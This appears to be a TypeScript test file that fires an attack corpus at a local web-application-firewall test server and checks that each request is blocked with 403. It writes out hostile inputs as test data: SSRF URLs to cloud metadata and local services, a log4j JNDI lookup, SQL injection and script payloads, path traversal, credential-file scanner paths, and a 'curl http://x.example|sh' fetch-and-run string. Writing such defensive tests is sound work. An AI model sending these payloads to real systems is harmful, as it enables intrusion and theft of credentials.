/**
 * The WAF's attack corpus: every payload family aimed at every place a request carries text (query,
 * path, headers, JSON fields, multipart field names, filenames and text fields, the URL to import,
 * the question), plus bad methods, scanner paths and a missing User-Agent, against a real server
 * with EnableWAF on. Every request must be refused with 403 request_blocked naming a rule.
 */
import assert from 'node:assert/strict';
import { request as httpRequest } from 'node:http';
import { readFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { repoRoot } from '../helpers/eval-manuals.js';
import { runPool } from '../helpers/run-pool.js';
import { startTestServer, type TestServer } from '../helpers/server.js';
import { join } from 'node:path';

type Payloads = Record<string, string[]>;
const payloads = JSON.parse(readFileSync(join(repoRoot, 'test', 'fixtures', 'waf', 'attack-payloads.json'), 'utf8')) as Payloads;

interface Attack {
  family: string;
  where: string;
  send: (t: TestServer, token: string) => Promise<Response>;
}

const headerSafe = (s: string) => /^[\x20-\x7e]+$/.test(s);
const pdf = () => new Blob([Buffer.from('%PDF-1.4\n%%EOF\n')], { type: 'application/pdf' });

/** Where a general payload goes. Families whose rules don't read a place skip it (RFI: not headers, where Referer holds URLs). */
const PLACES: Record<string, (p: string) => Attack['send'] | null> = {
  query: (p) => (t, token) => t.request(`/api/manuals?filter=${encodeURIComponent(p)}`, { token }),
  path: (p) => (t, token) => t.request(`/api/manuals/${encodeURIComponent(p)}`, { token }),
  header: (p) => (headerSafe(p) ? (t, token) => t.request('/api/manuals', { token, headers: { 'x-device-name': p } }) : null),
  json_field: (p) => (t, token) => t.request('/api/manuals/download', { token, json: { url: 'https://example.com/manual.pdf', filename: p } }),
  login_email: (p) => (t) => t.request('/api/auth/login', { json: { email: p, password: 'x' } }),
  multipart_field_name: (p) => (t, token) => {
    const form = new FormData();
    form.append('file', pdf(), 'manual.pdf');
    form.append(p, 'x');
    return t.request('/api/manuals/upload', { token, body: form });
  },
  multipart_filename: (p) => (t, token) => {
    const form = new FormData();
    form.append('file', pdf(), p);
    return t.request('/api/manuals/upload', { token, body: form });
  },
  multipart_text_field: (p) => (t, token) => {
    const form = new FormData();
    form.append('file', pdf(), 'manual.pdf');
    form.append('name', p);
    return t.request('/api/manuals/upload', { token, body: form });
  },
};

function corpus(): Attack[] {
  const out: Attack[] = [];
  for (const [family, list] of Object.entries(payloads)) {
    for (const p of list) {
      for (const [where, place] of Object.entries(PLACES)) {
        if (family === 'remote_file_inclusion' && where === 'header') continue;
        const send = place(p);
        if (send) out.push({ family, where, send });
      }
    }
  }
  // The URL to import: other schemes, the metadata address, lookups, injections.
  for (const url of ['file:///etc/passwd', 'gopher://127.0.0.1:6379/_INFO', 'dict://127.0.0.1:11211/stats', 'jar:http://example.com/a.jar!/x', 'javascript:alert(1)', 'http://169.254.169.254/latest/meta-data/', 'http://2852039166/', 'https://example.com/${jndi:ldap://x.example/a}', "https://example.com/a.pdf?id=1' OR '1'='1", 'https://example.com/a.pdf;curl http://x.example|sh', 'https://example.com/<script>alert(1)</script>.pdf', 'ftp://example.com/manual.pdf']) {
    out.push({ family: 'url_import', where: 'url', send: (t, token) => t.request('/api/manuals/download', { token, json: { url } }) });
  }
  // Questions: only what hurts as search text.
  const questionAttacks = [
    ...payloads.log4j!, ...payloads.java_deserialization!, ...payloads.ec2_metadata!,
    'how do I %3Cscript%3Ealert(1)%3C%2Fscript%3E', 'reset %2527%2520OR%25201%253D1--', 'what is &#60;script&#62;alert(1)&#60;/script&#62;',
    'manual PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+', 'help \\u003cscript\\u003ealert(1)\\u003c/script\\u003e', 'show %2e%2e%2f%2e%2e%2fetc%2fpasswd',
    'reset\u0000the router', 'what is \u202eevil', 'A'.repeat(20_001),
  ];
  // The page image's highlight (a quoted passage) is judged like a question.
  for (const h of ['${jndi:ldap://x.example/a}', '%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==', 'http://169.254.169.254/latest/']) {
    out.push({ family: 'question', where: 'highlight', send: (t, token) => t.request(`/api/manuals/00000000-0000-0000-0000-000000000000/pages/1.png?highlight=${encodeURIComponent(h)}`, { token }) });
  }
  for (const q of questionAttacks) {
    out.push({ family: 'question', where: 'question', send: (t, token) => t.request('/api/query', { token, json: { question: q } }) });
    out.push({ family: 'question', where: 'transcribe_question', send: (t, token) => t.request('/api/transcribe', { token, json: { question: q } }) });
  }
  // (TRACK and DEBUG never reach the app here: Node's HTTP parser answers 400 itself.)
  for (const method of ['PROPFIND', 'TRACE', 'MKCOL', 'PROPPATCH', 'LOCK', 'UNLOCK', 'COPY', 'MOVE']) {
    // fetch refuses TRACE/TRACK/CONNECT itself: node:http sends any method.
    out.push({ family: 'known_bad_inputs', where: 'method', send: (t, token) => rawRequest(`${t.url}/api/manuals`, method, { authorization: `Bearer ${token}`, 'user-agent': 'test' }) });
  }
  for (const path of ['/.git/config', '/.env', '/wp-admin/setup-config.php', '/wp-login.php', '/cgi-bin/luci', '/index.php', '/phpmyadmin/index.php', '/actuator/env', '/.aws/credentials', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/server-status', '/backup.sql', '/HNAP1/', '/api/.env', '/.ssh/id_rsa', '/xmlrpc.php']) {
    out.push({ family: 'known_bad_inputs', where: 'path', send: (t) => t.request(path) });
  }
  out.push({ family: 'size', where: 'query', send: (t, token) => t.request(`/api/manuals?q=${'a'.repeat(5000)}`, { token }) });
  out.push({ family: 'size', where: 'header', send: (t, token) => t.request('/api/manuals', { token, headers: { 'x-padding': 'a'.repeat(9000) } }) });
  out.push({ family: 'size', where: 'path', send: (t, token) => t.request(`/api/manuals/${'a'.repeat(2100)}`, { token }) });
  return out;
}

/** A request through node:http: any method, and exactly the headers given (fetch always adds a User-Agent). */
function rawRequest(url: string, method: string, headers: Record<string, string>): Promise<Response> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(url, { method, headers }, (res) => {
      let body = '';
      res.on('data', (d) => (body += d));
      res.on('end', () => resolve(new Response(body, { status: res.statusCode ?? 0 })));
    });
    req.on('error', reject);
    req.end();
  });
}

describe('WAF attack corpus (EnableWAF on)', () => {
  let t: TestServer;
  let token: string;
  before(async () => {
    t = await startTestServer({ parameters: { EnableWAF: true, DailyQuotaLimit: 0, MonthlyQuotaLimit: 0 } });
    token = await t.signup();
  });
  after(() => t.close());

  it('blocks every attack with 403 request_blocked naming its rule, counted per rule', async (ctx) => {
    const attacks = corpus();
    assert.ok(attacks.length >= 300, `corpus has ${attacks.length} requests`);
    const missed: string[] = [];
    const byFamily = new Map<string, { sent: number; blocked: number }>();
    const rules = new Set<string>();
    await runPool(attacks, 8, async (a) => {
      const res = await a.send(t, token);
      const body = (await res.json().catch(() => ({}))) as { error_type?: string; rule?: string; request_id?: string };
      const f = byFamily.get(a.family) ?? { sent: 0, blocked: 0 };
      f.sent++;
      if (res.status === 403 && body.error_type === 'request_blocked' && body.rule && body.request_id) {
        f.blocked++;
        rules.add(body.rule);
      } else missed.push(`${a.family}@${a.where}: ${res.status} ${body.error_type ?? ''}`);
      byFamily.set(a.family, f);
    });
    const noUa = await rawRequest(`${t.url}/api/manuals`, 'GET', { authorization: `Bearer ${token}` });
    assert.equal(noUa.status, 403);
    assert.equal(((await noUa.json()) as { rule: string }).rule, 'common.no_user_agent');

    const blocked = attacks.length - missed.length + 1;
    ctx.diagnostic(`blocked ${blocked} of ${attacks.length + 1} attack requests (${((100 * blocked) / (attacks.length + 1)).toFixed(1)} %)`);
    for (const [family, f] of byFamily) ctx.diagnostic(`  ${family}: ${f.blocked}/${f.sent}`);
    ctx.diagnostic(`rules that fired: ${[...rules].sort().join(', ')}`);
    assert.deepEqual(missed, [], 'every attack is blocked');
    const counted = await t.server.services.metrics.value('waf_blocks_total');
    assert.equal(counted, blocked, 'each block is counted');
  });

  it('with EnableWAF off the same requests reach the routes (the WAF costs nothing and decides nothing)', async () => {
    const off = await startTestServer({ parameters: { DailyQuotaLimit: 0 } });
    try {
      const offToken = await off.signup();
      const sample = corpus().filter((_, i) => i % 7 === 0);
      await runPool(sample, 8, async (a) => {
        const res = await a.send(off, offToken);
        const body = (await res.json().catch(() => ({}))) as { error_type?: string };
        assert.notEqual(body.error_type, 'request_blocked', `${a.family}@${a.where}`);
      });
      assert.equal(await off.server.services.metrics.value('waf_blocks_total'), 0);
    } finally {
      await off.close();
    }
  });
});
